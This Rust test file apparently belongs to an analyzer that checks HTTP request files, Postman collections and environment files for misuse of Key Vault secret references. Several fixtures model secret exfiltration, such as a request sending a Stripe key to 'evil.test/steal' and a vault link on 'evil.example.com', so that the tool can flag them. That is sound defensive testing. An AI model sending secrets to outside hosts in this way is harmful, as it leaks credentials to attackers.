@@ -1,0 +1,360 @@
+//! Every finding of the offline analysis, with its exact range and severity.
+//!
+//! Fixtures are `//- /path` blocks: `vaultlink.json`, environment files, and the document
+//! under test (the first other file). Each finding renders as
+//! `code severity line:col "covered text": message`.
+
+use expect_test::{Expect, expect};
+
+use crate::syntax::env::{self, EnvFile};
+use crate::text::{Encoding, LineIndex};
+use crate::vault::analysis::{Context, EnvSource};
+use crate::vault::document::{DocKind, Parsed};
+use crate::vault::links;
+
+fn files(fixture: &str) -> Vec<(String, String)> {
+    let mut out: Vec<(String, String)> = Vec::new();
+    for line in fixture.split_inclusive('\n') {
+        if let Some(path) = line.strip_prefix("//- ") {
+            out.push((
+                path.trim().trim_start_matches('/').to_string(),
+                String::new(),
+            ));
+        } else if let Some((_, text)) = out.last_mut() {
+            text.push_str(line);
+        }
+    }
+    out
+}
+
+fn check_env(fixture: &str, env_name: Option<&str>, expect: Expect) {
+    let files = files(fixture);
+    let links = files
+        .iter()
+        .find(|(p, _)| p == "vaultlink.json")
+        .map(|(_, t)| links::parse(t));
+    let envs: Vec<(&str, EnvFile)> = files
+        .iter()
+        .filter_map(|(p, t)| env::parse_path(p, t).map(|e| (t.as_str(), e)))
+        .collect();
+    let sources: Vec<EnvSource<'_>> = envs
+        .iter()
+        .map(|(t, f)| EnvSource { text: t, file: f })
+        .collect();
+    let (path, text) = files
+        .iter()
+        .find(|(p, t)| p != "vaultlink.json" && env::parse_path(p, t).is_none())
+        .or_else(|| files.iter().find(|(p, _)| p != "vaultlink.json"))
+        .or_else(|| files.first())
+        .expect("a document");
+    let kind = DocKind::detect(path, text).expect("a known kind of file");
+    let ctx = Context {
+        links: links.as_ref(),
+        envs: &sources,
+        env_name,
+    };
+    let findings = Parsed::parse(kind, text).analyze(text, &ctx);
+    let index = LineIndex::new(text);
+    let rendered: Vec<String> = findings
+        .iter()
+        .map(|f| {
+            let lc = index.line_col(text, f.range.start, Encoding::Chars);
+            format!(
+                "{} {} {}:{} {:?}: {}",
+                f.code.as_str(),
+                f.severity.as_str(),
+                lc.line + 1,
+                lc.col + 1,
+                f.range.slice(text),
+                f.message
+            )
+        })
+        .collect();
+    expect.assert_eq(&rendered.join("\n"));
+}
+
+fn check(fixture: &str, expect: Expect) {
+    check_env(fixture, None, expect);
+}
+
+const LINKS: &str = r#"//- /vaultlink.json
+{
+  "secrets": {
+    "stripe-key": { "link": "https://corp-kv.vault.azure.net/secrets/stripe-key", "allowedDomains": ["api.stripe.com", "*.stripe.net"] },
+    "db-password": { "link": "https://corp-kv.vault.azure.net/secrets/db-password/4387e9f3d6e14c459867679a90fd0f79" },
+    "broken": { "link": "https://corp-kv.vault.azure.net/keys/broken" },
+    "evil": { "link": "https://evil.example.com/secrets/x" }
+  }
+}
+"#;
+
+#[test]
+fn unlinked_and_linked_references_in_http() {
+    check(
+        &format!(
+            "{LINKS}//- /a.http
+GET https://api.stripe.com/v1/charges
+Authorization: Bearer {{{{vault:stripe-key}}}}
+X-Other: {{{{vault:missing}}}}
+"
+        ),
+        expect![[
+            r#"unlinked-secret warning 3:10 "{{vault:missing}}": `missing` is not linked: add it to vaultlink.json with `vaultlink link missing <identifier>`"#
+        ]],
+    );
+}
+
+#[test]
+fn without_a_links_file_everything_is_unlinked() {
+    check(
+        "//- /a.http\nGET https://x.test\nA: {{vault:k}}\n",
+        expect![[
+            r#"unlinked-secret warning 2:4 "{{vault:k}}": `k` is not linked: no vaultlink.json was found; create one with `vaultlink link k <identifier>`"#
+        ]],
+    );
+}
+
+#[test]
+fn invalid_references() {
+    check(
+        "//- /a.http\nGET https://x.test/{{vault:}}\nA: {{vault:bad name}}\nB: {{vault:open\n",
+        expect![[r#"
+            invalid-reference error 1:20 "{{vault:}}": the vault reference has no name: write `{{vault:NAME}}`
+            invalid-reference error 2:4 "{{vault:bad name}}": a vault reference name takes only letters, digits, `_`, `-` and `.`
+            invalid-reference error 3:4 "{{vault:open": unterminated vault reference: close it with `}}`"#]],
+    );
+}
+
+#[test]
+fn invalid_link_and_untrusted_host_at_each_reference() {
+    check(
+        &format!(
+            "{LINKS}//- /a.http\nGET https://x.test\nA: {{{{vault:broken}}}}\nB: {{{{vault:evil}}}}\n"
+        ),
+        expect![[r#"
+            invalid-link error 2:4 "{{vault:broken}}": the link for `broken` in vaultlink.json is not usable: the link must point to a secret (`/secrets/<name>`), not `/keys`; expected https://<vault>.vault.azure.net/secrets/<name>[/<version>]
+            untrusted-host error 3:4 "{{vault:evil}}": the link for `evil` in vaultlink.json is not usable: `evil.example.com` is not a Key Vault host"#]],
+    );
+}
+
+#[test]
+fn invalid_link_and_untrusted_host_in_the_links_file() {
+    let files = files(LINKS);
+    let parsed = links::parse(&files[0].1);
+    let findings = Parsed::Links(parsed).analyze(&files[0].1, &Context::default());
+    let rendered: Vec<String> = findings
+        .iter()
+        .map(|f| {
+            format!(
+                "{} {} {:?}",
+                f.code.as_str(),
+                f.severity.as_str(),
+                f.range.slice(&files[0].1)
+            )
+        })
+        .collect();
+    expect![[r#"
+        invalid-link error "\"https://corp-kv.vault.azure.net/keys/broken\""
+        untrusted-host error "\"https://evil.example.com/secrets/x\"""#]]
+    .assert_eq(&rendered.join("\n"));
+}
+
+#[test]
+fn domain_not_allowed_when_the_host_is_known() {
+    check(
+        &format!(
+            "{LINKS}//- /a.http
+@host = https://evil.test
+
+### direct
+GET https://api.stripe.com/ok
+A: {{{{vault:stripe-key}}}}
+
+### through a file variable
+GET {{{{host}}}}/steal?k={{{{vault:stripe-key}}}}
+
+### subdomain allowed
+GET https://eu.stripe.net:8443/x
+A: {{{{vault:stripe-key}}}}
+
+### unknown host: not checked
+GET {{{{unknownHost}}}}/x
+A: {{{{vault:stripe-key}}}}
+"
+        ),
+        expect![[r#"
+            domain-not-allowed error 8:22 "{{vault:stripe-key}}": `stripe-key` may not be sent to `evil.test`: vaultlink.json allows only api.stripe.com, *.stripe.net
+            undefined-variable warning 15:5 "{{unknownHost}}": `unknownHost` is not defined in this file or an environment"#]],
+    );
+}
+
+#[test]
+fn domain_not_allowed_through_a_variable_holding_a_secret() {
+    check(
+        &format!(
+            "{LINKS}//- /a.http
+@token = {{{{vault:stripe-key}}}}
+GET https://evil.test/x
+Authorization: Bearer {{{{token}}}}
+"
+        ),
+        expect![[
+            r#"domain-not-allowed error 3:23 "{{token}}": `stripe-key` (through `{{token}}`) may not be sent to `evil.test`: vaultlink.json allows only api.stripe.com, *.stripe.net"#
+        ]],
+    );
+}
+
+#[test]
+fn undefined_variables_and_what_defines_them() {
+    check(
+        r#"//- /http-client.env.json
+{"dev": {"host": "https://dev.test"}, "$shared": {"v": "1"}}
+//- /a.http
+@local = x
+### first
+# @name login
+# @prompt otp
+GET {{host}}/login?v={{v}}&l={{local}}&otp={{otp}}&id={{$uuid}}&r={{$randomInt 1 9}}
+
+> {% client.global.set("token", response.body.token); %}
+
+### second
+GET {{host}}/me?t={{token}}&u={{login.response.body.id}}&x={{missing}}&e={{ a + b }}
+"#,
+        expect![[
+            r#"undefined-variable warning 10:60 "{{missing}}": `missing` is not defined in this file or an environment"#
+        ]],
+    );
+}
+
+#[test]
+fn the_chosen_environment_decides_what_is_defined() {
+    let fixture = r#"//- /http-client.env.json
+{"dev": {"host": "https://dev.test", "only": "d"}, "prod": {"host": "https://prod.test"}}
+//- /a.http
+GET {{host}}/{{only}}
+"#;
+    check_env(fixture, Some("dev"), expect![""]);
+    check_env(
+        fixture,
+        Some("prod"),
+        expect![[
+            r#"undefined-variable warning 1:14 "{{only}}": `only` is not defined in this file or the environment `prod`"#
+        ]],
+    );
+}
+
+#[test]
+fn references_after_non_ascii_text_have_exact_ranges() {
+    check(
+        "//- /a.http\nPOST https://x.test\n\n{\"name\": \"Café 中文 😀\", \"k\": \"{{vault:k}}\"}\n",
+        expect![[
+            r#"unlinked-secret warning 3:29 "{{vault:k}}": `k` is not linked: no vaultlink.json was found; create one with `vaultlink link k <identifier>`"#
+        ]],
+    );
+}
+
+const COLLECTION_HEAD: &str = r#"{"info": {"name": "c", "schema": "https://schema.getpostman.com/json/collection/v2.1.0/collection.json"},"#;
+
+#[test]
+fn collection_references_map_through_json_escapes() {
+    let fixture = format!(
+        r#"{LINKS}//- /c.postman_collection.json
+{COLLECTION_HEAD}
+ "item": [{{"name": "r", "request": {{"method": "POST", "url": "https://api.stripe.com/x",
+   "header": [{{"key": "A", "value": "caf\u00e9 \"q\" {{{{vault:stripe-key}}}} {{{{vault:nope}}}}"}}],
+   "body": {{"mode": "raw", "raw": "{{\"s\": \"{{{{vault:db-password}}}}\", \"u\": \"{{{{undefinedVar}}}}\"}}"}}}}}}]
+}}
+"#
+    );
+    check(
+        &fixture,
+        expect![[r#"
+            unlinked-secret warning 3:75 "{{vault:nope}}": `nope` is not linked: add it to vaultlink.json with `vaultlink link nope <identifier>`
+            undefined-variable warning 4:80 "{{undefinedVar}}": `undefinedVar` is not defined in the collection, its scripts or an environment beside it"#]],
+    );
+}
+
+#[test]
+fn collection_domains_use_collection_variables() {
+    let fixture = format!(
+        r#"{LINKS}//- /c.postman_collection.json
+{COLLECTION_HEAD}
+ "item": [{{"name": "F", "item": [{{"name": "r", "request": {{"url": {{"raw": "{{{{base}}}}/x"}},
+   "auth": {{"type": "bearer", "bearer": [{{"key": "token", "value": "{{{{vault:stripe-key}}}}"}}]}}}}}}]}}],
+ "variable": [{{"key": "base", "value": "https://evil.test"}}]
+}}
+"#
+    );
+    check(
+        &fixture,
+        expect![[
+            r#"domain-not-allowed error 3:69 "{{vault:stripe-key}}": `stripe-key` may not be sent to `evil.test`: vaultlink.json allows only api.stripe.com, *.stripe.net"#
+        ]],
+    );
+}
+
+#[test]
+fn scripts_access_and_writes() {
+    let script = r#""const a = await pm.vault.get(\"stripe-key\");", "pm.vault.set(\"db-password\", 1); pm.vault.unset('free'); pm.vault.get('')", "pm.environment.set(\"later\", 1);""#;
+    let fixture = format!(
+        r#"{LINKS}//- /c.postman_collection.json
+{COLLECTION_HEAD}
+ "event": [{{"listen": "prerequest", "script": {{"exec": [{script}]}}}}],
+ "item": [{{"name": "r", "request": {{"url": "https://api.stripe.com/{{{{later}}}}"}}}}]
+}}
+"#
+    );
+    check(
+        &fixture,
+        expect![[r#"
+            script-access-disabled warning 2:89 "stripe-key": scripts may not use vault secrets: `pm.vault.get("stripe-key")` fails unless vaultlink.json sets `"scripts": {"allowVaultAccess": true}`
+            script-access-disabled warning 2:122 "db-password": scripts may not use vault secrets: `pm.vault.set("db-password")` fails unless vaultlink.json sets `"scripts": {"allowVaultAccess": true}`
+            linked-secret-write error 2:122 "db-password": `db-password` is linked to Key Vault, and a linked secret cannot be changed from a script: `pm.vault.set` on it fails
+            script-access-disabled warning 2:157 "free": scripts may not use vault secrets: `pm.vault.unset("free")` fails unless vaultlink.json sets `"scripts": {"allowVaultAccess": true}`
+            invalid-reference error 2:179 "": the vault reference has no name: write `{{vault:NAME}}`"#]],
+    );
+    // Allowed: no access warnings; the write to a linked secret is still an error.
+    let allowed = fixture.replace(
+        "\n  }\n}\n//- /c",
+        "\n  },\n  \"scripts\": {\"allowVaultAccess\": true}\n}\n//- /c",
+    );
+    check(
+        &allowed,
+        expect![[r#"
+            linked-secret-write error 2:122 "db-password": `db-password` is linked to Key Vault, and a linked secret cannot be changed from a script: `pm.vault.set` on it fails
+            invalid-reference error 2:179 "": the vault reference has no name: write `{{vault:NAME}}`"#]],
+    );
+}
+
+#[test]
+fn environment_files_and_visual_studio_key_vault_entries() {
+    check(
+        &format!(
+            r#"{LINKS}//- /http-client.env.json
+{{
+  "dev": {{
+    "token": "{{{{vault:stripe-key}}}} {{{{vault:unknown}}}}",
+    "kv": {{"provider": "AzureKeyVault", "secretName": "bad_name", "resourceId": "/subscriptions/x/providers/Microsoft.KeyVault/vaults/ok-vault"}},
+    "kv2": {{"provider": "AzureKeyVault", "secretName": "fine", "resourceId": "/subscriptions/x/vaults/a"}}
+  }}
+}}
+"#
+        ),
+        expect![[r#"
+            unlinked-secret warning 3:36 "{{vault:unknown}}": `unknown` is not linked: add it to vaultlink.json with `vaultlink link unknown <identifier>`
+            invalid-link error 4:55 "\"bad_name\"": a Key Vault secret name takes 1–127 letters, digits and `-`
+            invalid-link error 5:78 "\"/subscriptions/x/vaults/a\"": `resourceId` must end in `/providers/Microsoft.KeyVault/vaults/<vault>` with a valid vault name (3–24 letters, digits and `-`)"#]],
+    );
+}
+
+#[test]
+fn syntax_errors_are_findings() {
+    check(
+        "//- /c.postman_collection.json\n{\"info\": {\"schema\": \"https://schema.getpostman.com/json/collection/v2.1.0/collection.json\"}, \"item\": [1,}\n",
+        expect![[r#"
+            syntax-error error 1:103 "1": each `item` entry should be an object, not a number
+            syntax-error error 1:105 "}": expected a value: a string, number, object, array, true, false or null
+            syntax-error error 2:1 "": unterminated array: expected `]`"#]],
+    );
+}
